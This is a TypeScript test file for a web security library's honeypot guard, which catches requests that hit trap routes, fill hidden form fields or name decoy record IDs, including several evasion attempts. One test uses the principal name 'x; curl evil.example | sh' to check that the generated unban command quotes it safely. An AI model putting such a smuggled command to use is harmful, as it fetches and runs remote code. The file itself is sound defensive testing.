import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { type BodySource, type Decision, Engine, type Guard, type Refusal } from '@postern/core'
import { honeyGuard } from '../../src/honey/honey-guard.ts'
import { RemediationStore } from '../../src/remediation-store.ts'
import { exchangeFrom } from '../support.ts'

const bodyOf = (text: string): BodySource => ({
  read: async limit => ({
    bytes: new TextEncoder().encode(text).subarray(0, limit),
    complete: text.length <= limit,
  }),
})

async function ask(
  guard: Guard,
  target: string,
  body?: string,
  type = 'application/json',
  headers: readonly string[] = [],
): Promise<Decision> {
  const engine = new Engine({ guards: [guard] })
  return engine.decide(
    engine.open({
      method: body === undefined ? 'GET' : 'POST',
      target,
      headers: ['Host', 'h', ...headers, ...(body === undefined ? [] : ['Content-Type', type])],
      peer: '192.0.2.7',
      secure: false,
      httpVersion: '1.1',
      body: body === undefined ? undefined : bodyOf(body),
      native: undefined,
    }),
  )
}

/** More fields than are read. */
const padding = Array.from({ length: 20_000 }, (_, i) => `"p${i}":1`).join()
const formPadding = Array.from({ length: 2_000 }, (_, i) => `p${i}=1`).join('&')

const rule = (decision: Decision): string =>
  decision.effect === 'allow' ? 'allow' : decision.reasons[0].rule

describe('honey guard', () => {
  const guard = honeyGuard({
    routes: ['/backup.zip', 'POST /api/v0/**'],
    fields: ['website', 'fax_number'],
    records: ['ord_honey_7f3a', '99999999'],
  })
  const table: readonly (readonly [
    target: string,
    body: string | undefined,
    wanted: string,
    type?: string,
  ])[] = [
    ['/', undefined, 'allow'],
    ['/backup.zip', undefined, 'honey/route'],
    ['/BACKUP.ZIP', undefined, 'honey/route'],
    ['/x/../backup%2ezip', undefined, 'honey/route'],
    ['/api/v0/users', '{}', 'honey/route'],
    ['/signup?website=', undefined, 'allow'],
    ['/signup?website=http%3A%2F%2Fspam', undefined, 'honey/field'],
    ['/signup', '{"name":"a","website":""}', 'allow'],
    ['/signup', '{"name":"a","website":"x"}', 'honey/field'],
    ['/signup', 'name=a&fax_number=1', 'honey/field', 'application/x-www-form-urlencoded'],
    ['/signup', 'name=a&fax_number=', 'allow', 'application/x-www-form-urlencoded'],
    ['/signup?website=&website=x', undefined, 'honey/field'],
    ['/signup', 'website=&website=x', 'honey/field', 'application/x-www-form-urlencoded'],
    ['/orders?id=1&id=99999999', undefined, 'honey/record'],
    ['/orders/delete', '[{"id":99999999},{"id":1}]', 'honey/record'],
    ['/orders/ord_honey_7f3a', undefined, 'honey/record'],
    ['/orders/ord_honey_7f3ab', undefined, 'allow'],
    ['/orders?id=99999999', undefined, 'honey/record'],
    ['/orders/delete', '{"ids":[1,2,99999999]}', 'honey/record'],
    ['/orders/delete', '{"order":{"id":"ord_honey_7f3a"}}', 'honey/record'],
    ['/orders/delete', '{"ids":[1,2,3]}', 'allow'],
    ['/orders', '{"broken', 'allow'],
    // Attacks: where a value lies that names the record, so that it is not looked at.
    ['/orders/delete', '["ord_honey_7f3a"]', 'honey/record'],
    ['/orders/delete', '[[1,[99999999]]]', 'honey/record'],
    ['/orders/delete', '"ord_honey_7f3a"', 'honey/record'],
    ['/graphql', '{"variables":{"input":{"where":{"id":{"eq":"ord_honey_7f3a"}}}}}', 'honey/record'],
    ['/orders', `${'{"a":['.repeat(30)}"ord_honey_7f3a"${']}'.repeat(30)}`, 'honey/record'],
    ['/orders', `{"id":99999999,${padding}}`, 'honey/record'],
    ['/signup', `{"website":"x",${padding}}`, 'honey/field'],
    ['/orders', `{${padding}}`, 'allow'],
    ['/orders', '{"patch":{"ord_honey_7f3a":{"state":"gone"}}}', 'honey/record'],
    ['/orders', `${formPadding}&id=99999999`, 'honey/record', 'application/x-www-form-urlencoded'],
    ['/signup', `${formPadding}&website=x`, 'honey/field', 'application/x-www-form-urlencoded'],
    [`/signup?${formPadding}&website=x`, undefined, 'honey/field'],
    ['/signup', '{"website":{}}', 'allow'],
  ]
  for (const [target, body, wanted, type] of table)
    test(`${target} ${(body ?? '').slice(0, 100)} is ${wanted}`, async () =>
      assert.equal(rule(await ask(guard, target, body, type)), wanted))

  test('holds the actor at once, unless it only observes', async () => {
    for (const mode of ['enforce', 'observe'] as const) {
      const remediations = await RemediationStore.open()
      await ask(honeyGuard({ routes: ['/backup.zip'], remediations, mode }), '/backup.zip')
      assert.equal(remediations.list().length, mode === 'enforce' ? 1 : 0)
      await remediations.close()
    }
  })

  test('a browser that another site sent here is challenged, not banned', async () => {
    const remediations = await RemediationStore.open()
    const lured = ['Sec-Fetch-Site', 'cross-site', 'Sec-Fetch-Mode', 'no-cors']
    const decision = await ask(
      honeyGuard({ routes: ['/backup.zip'], remediations }),
      '/backup.zip',
      undefined,
      '',
      lured,
    )
    assert.equal(decision.effect, 'deny')
    assert.deepEqual(
      remediations.list().map(one => one.measure),
      ['challenge'],
    )
    await remediations.close()
  })

  test('answers like a missing page, and tells the operator why', async () => {
    const said = (await ask(guard, '/backup.zip')) as Refusal
    assert.equal(said.status, 404)
    assert.doesNotMatch(said.reasons[0].message, /honey|trap|block/i)
  })

  test('refuses records that would be hit by chance', () => {
    for (const record of ['1', '12345'])
      assert.throws(() => honeyGuard({ records: [record] }), { code: 'POSTERN_CONFIG' })
    assert.equal(honeyGuard({ records: ['123456'] }).name, 'honey')
  })

  test('inspects bodies for fields alone, and for records alone', async () => {
    const fields = honeyGuard({ fields: ['website'] })
    const records = honeyGuard({ records: ['ord_honey_7f3a'] })
    assert.equal(rule(await ask(fields, '/signup', '{"website":"x"}')), 'honey/field')
    assert.equal(rule(await ask(fields, '/?website=x')), 'honey/field')
    assert.equal(rule(await ask(records, '/orders', '{"id":"ord_honey_7f3a"}')), 'honey/record')
    assert.equal(rule(await ask(records, '/?id=ord_honey_7f3a')), 'honey/record')
  })

  test('reads no body where only routes are traps', async () => {
    const engine = new Engine({ guards: [honeyGuard({ routes: ['/backup.zip'] })] })
    let reads = 0
    const exchange = engine.open({
      method: 'POST',
      target: '/signup',
      headers: ['Host', 'h', 'Content-Type', 'application/json'],
      peer: '192.0.2.7',
      secure: false,
      httpVersion: '1.1',
      body: {
        read: async () => {
          reads++
          return { bytes: new TextEncoder().encode('{}'), complete: true }
        },
      },
      native: undefined,
    })
    assert.equal((await engine.decide(exchange)).effect, 'allow')
    assert.equal(reads, 0)
  })

  test('holds a principal that is known by its name, and says which command lifts that', async () => {
    const remediations = await RemediationStore.open()
    const trap = honeyGuard({ routes: ['/backup.zip'], remediations, for: '2h' })
    const exchange = exchangeFrom('192.0.2.7', [], {}, 'GET', '/backup.zip')
    exchange.principal = { kind: 'user', id: 'mallory' }
    const known = (await trap.decide(exchange)) as Refusal
    exchange.principal = { kind: 'user', id: 'x; curl evil.example | sh' }
    const hostile = (await trap.decide(exchange)) as Refusal
    const stranger = (await trap.decide(exchangeFrom('192.0.2.8', [], {}, 'GET', '/backup.zip'))) as Refusal
    assert.deepEqual(
      [known, hostile, stranger].map(said => said.reasons[0].exception?.command),
      [
        'postern unban principal:mallory',
        "postern unban 'principal:x; curl evil.example | sh'",
        'postern unban 192.0.2.8',
      ],
    )
    assert.deepEqual(
      remediations
        .list()
        .map(({ actor, createdAt, expiresAt }) => [actor.value, expiresAt - createdAt])
        .sort(),
      [
        ['192.0.2.8', 7_200_000],
        ['mallory', 7_200_000],
        ['x; curl evil.example | sh', 7_200_000],
      ],
    )
    await remediations.close()
  })

  test('a refusal names the change that takes the trap away', async () => {
    const changes = async (target: string, body?: string): Promise<unknown> =>
      ((await ask(guard, target, body)) as Refusal).reasons[0].exception?.changes
    assert.deepEqual(await changes('/backup.zip'), [{ at: ['routes', '/backup.zip', 'honey'], set: false }])
    assert.deepEqual(await changes('/signup?website=x'), [{ at: ['honey', 'fields'], remove: ['website'] }])
    assert.deepEqual(await changes('/orders/ord_honey_7f3a'), [
      { at: ['honey', 'records'], remove: ['ord_honey_7f3a'] },
    ])
  })
})
